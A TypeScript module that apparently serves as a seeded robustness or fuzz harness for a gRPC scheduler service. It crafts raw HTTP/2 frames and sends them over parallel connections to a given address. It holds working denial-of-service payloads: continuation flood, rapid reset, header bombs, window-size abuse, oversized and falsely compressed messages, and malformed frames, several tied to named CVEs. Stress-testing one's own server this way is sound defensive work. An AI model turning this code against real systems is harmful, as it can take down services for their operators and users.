import { connect, type Socket } from 'node:net';

/** Frame types of HTTP/2 (RFC 9113 §6). */
const frameTypes = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  push: 5,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
} as const;

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const endStream = 0x1;
const endHeaders = 0x4;
const perConnection = 500;

/** Answers whole numbers below `below`; the same seed answers the same ones. */
type Draw = (below: number) => number;

/** Numerical Recipes' linear congruential generator: enough to vary bytes, and the same everywhere. */
function drawFrom(seed: number): Draw {
  let state = seed >>> 0;
  return (below) => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream >>> 0, 5);
  return Buffer.concat([head, payload]);
}

/** Literals without indexing or Huffman (RFC 7541 §6.2.2), so that any bytes can be sent. */
function headerBlock(headers: readonly (readonly [string, string])[]): Buffer {
  return Buffer.concat(
    headers.map(([name, value]) => Buffer.concat([Buffer.from([0]), textOf(name), textOf(value)])),
  );
}

function textOf(text: string): Buffer {
  const bytes = Buffer.from(text, 'latin1');
  if (bytes.length < 127) return Buffer.concat([Buffer.from([bytes.length]), bytes]);
  const length: number[] = [127];
  let rest = bytes.length - 127;
  for (; rest >= 128; rest >>= 7) length.push((rest & 127) | 128);
  return Buffer.concat([Buffer.from([...length, rest]), bytes]);
}

function call(more: readonly (readonly [string, string])[] = []): Buffer {
  return headerBlock([
    [':method', 'POST'],
    [':scheme', 'http'],
    [':path', '/tangram.v1.SchedulerService/ApplyModel'],
    [':authority', 'localhost'],
    ['content-type', 'application/grpc'],
    ['te', 'trailers'],
    ...more,
  ]);
}

function bytesOf(draw: Draw, length: number): Buffer {
  return Buffer.from(Array.from({ length }, () => draw(256)));
}

function message(flag: number, length: number, body: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.writeUInt8(flag, 0);
  head.writeUInt32BE(length >>> 0, 1);
  return Buffer.concat([head, body]);
}

type Attack = (draw: Draw, stream: number) => readonly Buffer[];

const { data, headers, reset, settings, ping, window, continuation, priority } = frameTypes;

function settingsOf(id: number, value: number): Buffer {
  const payload = Buffer.alloc(6);
  payload.writeUInt16BE(id, 0);
  payload.writeUInt32BE(value >>> 0, 2);
  return frame(settings, 0, 0, payload);
}

function number(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value >>> 0);
  return bytes;
}

/** What somebody who reached the port may send, by name. */
const attacks: Readonly<Record<string, Attack>> = {
  // CVE-2024-27983 and its kin: headers that never end.
  'continuation flood': (draw, stream) => [
    frame(headers, 0, stream, call()),
    ...Array.from({ length: 40 }, () =>
      frame(continuation, 0, stream, headerBlock([[`x-${draw(1e6)}`, 'y'.repeat(draw(900))]])),
    ),
  ],
  // CVE-2023-44487.
  'rapid reset': (_draw, stream) => [
    frame(headers, endHeaders, stream, call()),
    frame(reset, 0, stream, number(8)),
  ],
  'header bomb': (draw, stream) => [
    frame(headers, endHeaders, stream, call([['x-bomb', 'b'.repeat(8_000 + draw(8_000))]])),
  ],
  'window games': (draw, stream) => [
    settingsOf(4, draw(2) === 0 ? 0 : 2 ** 31 - 1),
    frame(window, 0, draw(2) * stream, number([0, 1, 2 ** 31 - 1][draw(3)] ?? 0)),
    frame(headers, endHeaders, stream, call()),
  ],
  'settings and pings': (draw) => [
    settingsOf(draw(12), draw(2 ** 32)),
    frame(ping, draw(2), 0, bytesOf(draw, 8)),
    frame(priority, 0, 1 + draw(99), bytesOf(draw, 5)),
  ],
  'a message of 4 GiB': (draw, stream) => [
    frame(headers, endHeaders, stream, call()),
    frame(data, 0, stream, message(0, 0xffff_ffff, bytesOf(draw, 200))),
    frame(data, endStream, stream, bytesOf(draw, 200)),
  ],
  // CVE-2026-48069: a message that says it is compressed, and is not.
  'compressed garbage': (draw, stream) => [
    frame(headers, endHeaders, stream, call([['grpc-encoding', 'gzip']])),
    frame(data, endStream, stream, message(1, 64, bytesOf(draw, 64))),
  ],
  'truncated protobuf': (draw, stream) => {
    const body = Buffer.concat([Buffer.from([0x0a, 0xff, 0xff, 0x03]), bytesOf(draw, draw(64))]);
    return [
      frame(headers, endHeaders, stream, call()),
      frame(data, endStream, stream, message(0, body.length, body)),
    ];
  },
  'wrong metadata': (draw, stream) => [
    frame(
      headers,
      endHeaders | endStream,
      stream,
      call([
        ['grpc-timeout', bytesOf(draw, 6).toString('latin1')],
        ['x-bin', '%%%'],
        ['authorization', `Bearer tga_${bytesOf(draw, 12).toString('hex')}`],
      ]),
    ),
  ],
  garbage: (draw, stream) => [
    frame(draw(16), draw(256), draw(3) === 0 ? stream : draw(2 ** 31), bytesOf(draw, draw(300))),
  ],
};

export interface Assault {
  readonly frames: number;
  readonly connections: number;
}

/** Sends that many hostile frames over a few connections at a time; one that is closed is opened anew. */
export async function assault(
  address: string,
  asked: { readonly frames: number; readonly seed: number; readonly lanes: number },
): Promise<Assault> {
  const draw = drawFrom(asked.seed);
  let frames = 0;
  let connections = 0;
  const lane = async (): Promise<void> => {
    while (frames < asked.frames) {
      connections += 1;
      frames += await oneConnection(address, draw);
    }
  };
  await Promise.all(Array.from({ length: asked.lanes }, lane));
  return { frames, connections };
}

/** Until enough was sent or the server had enough. Answers how many frames were sent. */
async function oneConnection(address: string, draw: Draw): Promise<number> {
  const [host = '', port = ''] = address.split(':');
  const socket = connect({ host, port: Number(port) });
  socket.on('error', () => undefined);
  // What it answers is read and thrown away, but now and then nothing is read at all.
  if (draw(4) > 0) socket.resume();
  await once(socket, 'connect');
  if (draw(10) > 0) socket.write(Buffer.concat([preface, frame(settings, 0, 0, Buffer.alloc(0))]));
  const names = Object.keys(attacks);
  let sent = 0;
  for (let stream = 1; sent < perConnection && !socket.destroyed; stream += 2) {
    const attack = attacks[names[draw(names.length)] ?? ''];
    const burst = attack === undefined ? [] : attack(draw, stream);
    sent += burst.length;
    if (!socket.write(Buffer.concat(burst))) await once(socket, 'drain');
    // The server's turn: a closed connection is not to be counted as frames that it had to read.
    if (draw(4) === 0) await new Promise((resolve) => setImmediate(resolve));
  }
  socket.destroy();
  return sent;
}

/** Or its end, or half a second: who is attacked may stop reading. */
async function once(socket: Socket, event: 'connect' | 'drain'): Promise<void> {
  await new Promise<void>((resolve) => {
    const done = (): void => {
      clearTimeout(timer);
      socket.off(event, done);
      socket.off('close', done);
      resolve();
    };
    const timer = setTimeout(done, 500);
    socket.once(event, done);
    socket.once('close', done);
  });
}
